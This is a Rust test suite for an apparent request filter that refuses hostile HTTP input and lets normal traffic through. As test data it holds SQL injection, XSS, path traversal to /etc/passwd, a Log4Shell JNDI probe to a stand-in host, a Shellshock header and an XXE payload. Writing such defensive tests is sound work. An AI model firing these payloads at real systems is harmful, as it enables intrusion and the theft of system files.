//! Where values are looked for.

use base64::Engine as _;
use http::{Request, StatusCode};
use http_body_util::Full;

use super::{Body, get, multipart, post, post_to, status, url_encoded, with_header};

const SQL: &str = "1' or '1'='1";
const SCRIPT: &str = "<script>alert(1)</script>";

#[track_caller]
fn assert_all(expected: StatusCode, requests: Vec<Request<Body>>) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap();
    for request in requests {
        let shown = format!("{request:?}");
        assert_eq!(runtime.block_on(status(request)), expected, "{shown}");
    }
}

/// Behaviour 21.
#[test]
fn paths_that_leave_their_folder_are_refused_and_others_pass() {
    let refused = [
        "/..%2f..%2fetc/passwd",
        "/static/..%5c..%5c",
        "/static/..\\..\\",
        "/%c0%ae%c0%ae/",
        "/....//",
        "/%252e%252e%252f",
        "/image.jpg%00.php",
        "/notes/%00",
    ];
    assert_all(StatusCode::FORBIDDEN, refused.map(get).into());
    let passed = [
        "/",
        "/v1..2/notes",
        "/file..name.txt",
        "/products/caf%C3%A9",
        "/a%20b/c",
    ];
    assert_all(StatusCode::OK, passed.map(get).into());
}

#[test]
fn names_are_looked_at_like_values() {
    let url = url_encoded(SQL.as_bytes());
    let form = "application/x-www-form-urlencoded";
    assert_all(
        StatusCode::FORBIDDEN,
        vec![
            get(&format!("/?{url}=1")),
            get(&format!("/?{url}")),
            get("/?1'+or+'1'='1"),
            get(&format!("/?a=1&&b=2&q={url}")),
            post(form, format!("{url}=1")),
            post("application/json", format!("{{\"{SCRIPT}\": 1}}")),
            with_header("cookie", format!("{SCRIPT}=1")),
            with_header("cookie", format!("theme=dark; {SCRIPT}")),
        ],
    );
    assert_all(
        StatusCode::OK,
        vec![
            get("/?filter[name]=Ann&tags[]=a&$top=5&sort=-price,name"),
            post(form, "user.name=Ann&items[0][sku]=A-1"),
            post(
                "application/json",
                r#"{"@type": "Product", "a.b": {"c-d": [1, "x"]}}"#,
            ),
        ],
    );
}

#[test]
fn headers_that_an_application_may_use_are_looked_at() {
    let names = [
        "user-agent",
        "referer",
        "x-forwarded-for",
        "x-forwarded-host",
        "x-api-version",
        "accept-language",
        "content-type",
        "host",
    ];
    let probe = |name| with_header(name, "${jndi:ldap://x.test/a}");
    assert_all(StatusCode::FORBIDDEN, names.map(probe).into());
    let agent = "() { :; }; /bin/cat /etc/passwd";
    assert_all(
        StatusCode::FORBIDDEN,
        vec![with_header("user-agent", agent)],
    );
    // A key is compared and not read.
    assert_all(StatusCode::OK, vec![with_header("authorization", SQL)]);
}

#[test]
fn what_browsers_send_passes() {
    let request = Request::get("/products?q=silver+ring&page=2")
        .header("host", "acme.example:8443")
        .header("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36")
        .header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7")
        .header("accept-language", "en-US,en;q=0.9,de;q=0.8")
        .header("accept-encoding", "gzip, deflate, br, zstd")
        .header("cookie", "_ga=GA1.2.1234567890.1234567890; __Host-session=Zm9vYmFy_-abc123; theme=dark; consent=%7B%22ads%22%3Afalse%7D")
        .header("referer", "https://acme.example/products?q=ring&sort=-price#list")
        .header("sec-ch-ua", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\", \"Google Chrome\";v=\"128\"")
        .header("sec-ch-ua-mobile", "?0")
        .header("sec-ch-ua-platform", "\"Windows\"")
        .header("sec-fetch-dest", "document")
        .header("sec-fetch-mode", "navigate")
        .header("sec-fetch-site", "same-origin")
        .header("sec-fetch-user", "?1")
        .header("upgrade-insecure-requests", "1")
        .header("if-none-match", "W/\"5e15153d-120f\"")
        .header("cache-control", "max-age=0")
        .header("priority", "u=0, i")
        .header("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01")
        .header("forwarded", "for=\"[2001:db8::1]:4711\";proto=https;by=203.0.113.43")
        .header("x-forwarded-for", "203.0.113.9, 10.0.0.2");
    assert_all(StatusCode::OK, vec![request.body(Body::default()).unwrap()]);
}

#[test]
fn what_programs_and_proxies_send_passes() {
    let agents = [
        "curl/8.5.0",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 3.5.30729)",
        "okhttp/4.12.0",
        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240705.005)",
    ];
    let others = [
        (
            "content-type",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        ),
        (
            "content-type",
            "multipart/form-data; boundary=---------------------------974767299852498929531610575",
        ),
        ("content-type", "application/json; charset=utf-8"),
        (
            "content-disposition",
            "attachment; filename=\"invoice 7.pdf\"; filename*=UTF-8''invoice%207.pdf",
        ),
        ("range", "bytes=0-1023, -1"),
        ("origin", "https://acme.example:8443"),
        ("x-requested-with", "XMLHttpRequest"),
        ("via", "1.1 vegur, 1.1 google"),
        (
            "x-amzn-trace-id",
            "Root=1-5759e988-bd862e3fe1be46a994272793",
        ),
        ("cf-visitor", "{\"scheme\":\"https\"}"),
        (
            "baggage",
            "sentry-environment=production,sentry-release=1.2.3",
        ),
        (
            "x-forwarded-client-cert",
            "By=spiffe://cluster.local/ns/a;Hash=468ed33;Subject=\"/C=US/ST=CA/L=San Francisco\"",
        ),
        ("cache-control", "no-cache, no-store, must-revalidate"),
        ("link", "<https://a.example/?page=2>; rel=\"next\""),
        (
            "signature-input",
            "sig1=(\"@method\" \"@authority\");created=1618884473;keyid=\"a\"",
        ),
        (
            "digest",
            "sha-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=",
        ),
    ];
    let agents = agents.map(|agent| with_header("user-agent", agent));
    let others = others.map(|(name, value)| with_header(name, value));
    assert_all(StatusCode::OK, agents.into_iter().chain(others).collect());
}

#[tokio::test]
async fn random_tokens_pass() {
    let mut random = fastrand::Rng::with_seed(7);
    for _ in 0..5_000 {
        let mut bytes = [0; 33];
        random.fill(&mut bytes);
        let standard = base64::engine::general_purpose::STANDARD.encode(&bytes[..32]);
        let url_safe = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes);
        let request = Request::get(format!(
            "/reset/{url_safe}?token={}",
            standard.replace('+', "%2B")
        ))
        .header("cookie", format!("session={standard}; csrf={url_safe}"))
        .header("x-csrf-token", standard);
        let request = request.body(Body::default()).unwrap();
        let shown = format!("{request:?}");
        assert_eq!(status(request).await, StatusCode::OK, "{shown}");
    }
}

#[test]
fn json_is_looked_at_at_any_depth_and_even_where_it_is_none() {
    let deep = |levels: usize| {
        let (open, close) = ("{\"a\":[".repeat(levels), "]}".repeat(levels));
        format!("{open}\"{SQL}\"{close}")
    };
    let json = "application/json";
    assert_all(
        StatusCode::FORBIDDEN,
        vec![
            post(json, format!("\"{SQL}\"")),
            post(json, deep(3)),
            post(json, deep(1000)),
            post(json, format!("{{\"a\": \"x\", \"a\": \"{SQL}\"}}")),
            post(
                json,
                "{\"a\": \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}",
            ),
            post(
                "application/merge-patch+json",
                format!("{{\"a\":\"{SQL}\"}}"),
            ),
            // A mark of UTF-8 before it.
            post(json, format!("\u{feff}{{\"a\":\"{SQL}\"}}")),
            // Broken off, with single quotes, with a comment, with none at all.
            post(json, format!("{{\"a\": \"{SQL}")),
            post(json, format!("{{'a': '{SCRIPT}'}}")),
            post(json, format!("{{\"a\": 1 /* {SCRIPT} */}}")),
            post(json, SQL),
            // Under another type, for handlers that do not look at it.
            post("text/plain", format!("{{\"a\": [\"{SQL}\"]}}")),
            post(
                "image/png",
                format!("{{\"a\": [\"{SQL}\"], \"b\": \"\u{1}\"}}"),
            ),
            post(
                "application/x-www-form-urlencoded",
                format!("{{\"a\": [\"{SQL}\"]}}"),
            ),
        ],
    );
    assert_all(
        StatusCode::OK,
        vec![
            post(
                json,
                r#"{"name": "O'Brien", "price": {"amount": 3412}, "tags": ["a", null, 1.5e3]}"#,
            ),
            post(json, "{\"a\":1}\n{\"a\":2}\n"),
            post(json, r#"{"text": "a \"quoted\" word, C:\\notes, \u00fc"}"#),
        ],
    );
}

#[test]
fn forms_are_looked_at_field_by_field() {
    let form = "application/x-www-form-urlencoded";
    assert_all(
        StatusCode::FORBIDDEN,
        vec![
            post(form, "a=1&q=1%27+or+%271%27%3D%271"),
            post(form, "a=1&q=%c0%ae%c0%ae%2f%c0%ae%c0%ae%2fetc"),
            post(form, format!("a=%zz&q={SCRIPT}")),
            post(
                "APPLICATION/X-WWW-Form-Urlencoded; charset=UTF-8",
                "q=1%27+or+%271%27%3D%271",
            ),
            // Without its type.
            post("text/plain", "id=1%27+or+1%3D1+--+&x=1"),
        ],
    );
    let passed = "name=O%27Brien&note=50%25+off+--+today+only&url=https%3A%2F%2Fa.example%2Fb";
    assert_all(StatusCode::OK, vec![post(form, passed)]);
}

#[test]
fn the_parts_of_a_multipart_form_are_looked_at_with_their_names() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR<script>alert(1)</script>\xff";
    let image = "Content-Type: image/png\r\n";
    let extended = "; filename=\"a.txt\"; FileName*=UTF-8''..%2f..%2fetc%2fpasswd";
    assert_all(
        StatusCode::FORBIDDEN,
        vec![
            multipart("", "", SQL),
            multipart("", "Content-Type: text/plain\r\n", SCRIPT),
            multipart("; filename=\"../../etc/passwd\"", image, "x"),
            multipart(
                "; filename=\"<img src=x onerror=alert(1)>.png\"",
                image,
                png,
            ),
            multipart(extended, image, png),
            multipart(
                "; filename=\"a.html\"",
                "Content-Type: text/html\r\n",
                SCRIPT,
            ),
            multipart(
                "; filename=\"a.svg\"",
                "Content-Type: image/svg+xml\r\n",
                SCRIPT,
            ),
            // A text under the name of a picture.
            multipart("; filename=\"a.png\"", image, SCRIPT),
            multipart("; filename=\"a.txt\"", "", SCRIPT),
            multipart(
                "",
                "Content-Type: application/json\r\n",
                "{\"a\": \"1.or-id\"}",
            ),
            // No field, no end, no boundary, another boundary.
            post("multipart/form-data; boundary=XyZ", SCRIPT),
            post(
                "multipart/form-data; boundary=XyZ",
                format!("--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{SCRIPT}"),
            ),
            post(
                "multipart/form-data",
                format!("--XyZ\r\n\r\n{SCRIPT}\r\n--XyZ--\r\n"),
            ),
            post(
                "multipart/form-data; boundary=AbC",
                format!("--XyZ\r\n\r\n{SCRIPT}\r\n--XyZ--\r\n"),
            ),
        ],
    );
    assert_all(
        StatusCode::OK,
        vec![
            multipart("", "", "Ann's notes; see ../2"),
            multipart("; filename=\"photo of Ann (2).png\"", image, png),
            multipart(
                "; filename=\"a.txt\"",
                "Content-Type: text/plain\r\n",
                "plain words",
            ),
        ],
    );
}

#[test]
fn forms_of_more_fields_than_are_looked_at_are_refused() {
    let part = |value: &str| {
        format!("--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{value}\r\n")
    };
    let parts = |count: usize, last: &str| {
        let body = format!("{}{}--XyZ--\r\n", part("x").repeat(count - 1), part(last));
        post("multipart/form-data; boundary=XyZ", body)
    };
    let fields = |count: usize, last: &str| {
        let body = format!("{}{last}", "a=1&".repeat(count - 1));
        post("application/x-www-form-urlencoded", body)
    };
    let too_long = StatusCode::PAYLOAD_TOO_LARGE;
    assert_all(StatusCode::OK, vec![parts(999, "x"), fields(10_000, "a=1")]);
    assert_all(
        StatusCode::FORBIDDEN,
        vec![parts(999, SCRIPT), fields(10_000, "a=1%27+or+1%3D1+--+")],
    );
    assert_all(too_long, vec![parts(1001, "x"), fields(10_001, "a=1")]);
}

#[test]
fn other_bodies_are_looked_at_as_one_value_unless_they_are_no_text() {
    let untyped = |body: &'static str| {
        let request = Request::post("/");
        request.body(Full::new(body.into())).unwrap()
    };
    assert_all(
        StatusCode::FORBIDDEN,
        vec![
            post("text/plain", SCRIPT),
            post(
                "application/xml",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            ),
            post("application/unheard-of", SCRIPT),
            post("application/octet-stream", SCRIPT),
            untyped(SCRIPT),
            untyped("q=1%27+or+%271%27%3D%271"),
        ],
    );
    let xml = "<?xml version=\"1.0\"?><userInfo><name>Ann</name></userInfo>";
    assert_all(
        StatusCode::OK,
        vec![
            post("application/xml", xml),
            post("text/plain", "Mark, 'Call me when you are here'"),
            post(
                "application/octet-stream",
                &b"\0\x01\x02<script>alert(1)</script>\xff"[..],
            ),
            post("video/mp4", &b"\0\0\0\x18ftypmp42"[..]),
            post_to("/", "text/csv", "sku,price\nA-1,12.50\n"),
        ],
    );
}
